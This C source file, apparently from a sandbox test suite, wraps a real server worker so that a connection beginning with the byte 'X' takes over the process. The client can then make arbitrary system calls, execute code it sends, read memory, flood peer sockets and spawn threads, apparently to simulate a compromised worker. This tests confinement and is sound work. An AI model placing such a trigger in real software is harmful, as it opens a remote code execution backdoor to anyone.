/* evil.c - a worker that is taken over by the first byte of its connection.
 *
 * This is the real worker, room_enter, sandbox, limits and all, linked with two functions wrapped:
 * chan_init tells which descriptor leads to whom, and whatever takes up the connection
 * (evil_https.c, evil_sftp.c) asks evil_takes first.  A client is served as ever.  Whoever says 'X'
 * owns the process from there on: every command is a struct order, followed by len bytes for the
 * scratch memory; the answer is one int64_t (a negative one is -errno), and what the order says.
 */
#include "evil.h"

#include <errno.h>
#include <poll.h>
#include <pthread.h>
#include <stdint.h>
#include <string.h>
#include <unistd.h>
#include <sys/socket.h>
#include <sys/syscall.h>

#include "ipc/chan.h"

enum { SCRATCH = 1 << 20, TAKEOVER = 'X', STACK = 1 << 16, WAIT_MS = 30000 };

enum op {
	OP_FACTS = 1, /* -> address of the scratch memory, descriptor of each room (-1: none),
			 connection */
	OP_CALL,      /* any system call: arg[0] is its number */
	OP_PEEK,      /* arg[0], arg[1]: offset and length in the scratch memory -> its bytes */
	OP_FLOOD,   /* arg[0]: descriptor, arg[1]: times the scratch is sent and a reply awaited ->
		       replies */
	OP_COMPAT,  /* arg[0]: number of a 32-bit system call */
	OP_JUMP,    /* run the scratch memory */
	OP_THREADS, /* arg[0]: threads to start -> how many there are */
	OP_SPIN,    /* arg[0]: rounds to turn for nothing */
};
struct order {
	uint32_t op, len;
	uint64_t at; /* where in the scratch memory the bytes go */
	uint64_t arg[7];
};

void __wrap_chan_init(struct chan *c, int fd, enum room self, enum room peer);
void __real_chan_init(struct chan *c, int fd, enum room self, enum room peer);

static int64_t door[ROOM_COUNT + 2]; /* scratch address, room sockets, the connection */
static uint8_t scratch[SCRATCH];

void
__wrap_chan_init(struct chan *c, int fd, enum room self, enum room peer)
{
	__real_chan_init(c, fd, self, peer);
	door[1 + (int)peer] = fd;
}

static int
take(int fd, void *buf, size_t len)
{
	uint8_t *at = buf;

	while (len > 0) {
		ssize_t n = read(fd, at, len);

		if (n <= 0)
			return -1;
		at += n;
		len -= (size_t)n;
	}
	return 0;
}

static int
give(int fd, const void *buf, size_t len)
{
	const uint8_t *at = buf;

	while (len > 0) {
		ssize_t n = write(fd, at, len);

		if (n <= 0)
			return -1;
		at += n;
		len -= (size_t)n;
	}
	return 0;
}

static int64_t
flood(int fd, size_t len, uint64_t times)
{
	static uint8_t reply[IPC_MAX];
	struct pollfd p = {.fd = fd, .events = POLLIN};
	int64_t replies = 0;

	for (uint64_t i = 0; i < times; i++) {
		if (send(fd, scratch, len, MSG_NOSIGNAL) != (ssize_t)len ||
		    poll(&p, 1, WAIT_MS) != 1 || recv(fd, reply, sizeof(reply), 0) <= 0)
			break;
		replies++;
	}
	return replies;
}

static int64_t
compat(uint64_t number)
{
#ifdef __x86_64__
	int64_t result;

	__asm__ volatile("int $0x80"
			 : "=a"(result)
			 : "a"(number), "b"(0), "c"(0), "d"(0)
			 : "memory");
	return result;
#else
	return syscall((long)number, 0, 0, 0); /* no second table */
#endif
}

static void *
sleeper(void *arg)
{
	for (;;)
		(void)poll(NULL, 0, WAIT_MS);
	return arg;
}

static int64_t
threads(uint64_t wanted)
{
	pthread_attr_t a;
	pthread_t t;
	int64_t n = 0;

	(void)pthread_attr_init(&a);
	(void)pthread_attr_setstacksize(&a, STACK);
	while ((uint64_t)n < wanted && pthread_create(&t, &a, sleeper, NULL) == 0)
		n++;
	return n;
}

static int64_t
call(const struct order *o)
{
	const uint64_t *a = o->arg;
	long result = syscall((long)a[0], a[1], a[2], a[3], a[4], a[5], a[6]);

	return result == -1 ? -errno : result;
}

static int64_t
obey(const struct order *o)
{
	union {
		uint8_t *data;
		void (*code)(void);
	} u = {.data = scratch};

	switch (o->op) {
	case OP_CALL:
		return call(o);
	case OP_FLOOD:
		return flood((int)o->arg[0], o->len, o->arg[1]);
	case OP_COMPAT:
		return compat(o->arg[0]);
	case OP_THREADS:
		return threads(o->arg[0]);
	case OP_JUMP:
		u.code();
		return 0;
	case OP_SPIN:
		for (volatile uint64_t i = 0; i < o->arg[0]; i = i + 1)
			;
		return 0;
	default:
		return 0;
	}
}

static void
owned(int fd)
{
	struct order o;

	door[0] = (int64_t)(uintptr_t)scratch;
	door[ROOM_COUNT + 1] = fd;
	while (take(fd, &o, sizeof(o)) == 0 && o.at <= SCRATCH && o.len <= SCRATCH - o.at &&
	       take(fd, scratch + o.at, o.len) == 0) {
		int64_t result = obey(&o);

		if (give(fd, &result, sizeof(result)) != 0 ||
		    (o.op == OP_FACTS && give(fd, door, sizeof(door)) != 0) ||
		    (o.op == OP_PEEK && give(fd, scratch + o.arg[0], o.arg[1]) != 0))
			return;
	}
}

bool
evil_takes(int fd)
{
	uint8_t first = 0;

	if (recv(fd, &first, 1, MSG_PEEK) != 1 || first != TAKEOVER)
		return false;
	if (take(fd, &first, 1) == 0)
		owned(fd);
	return true;
}
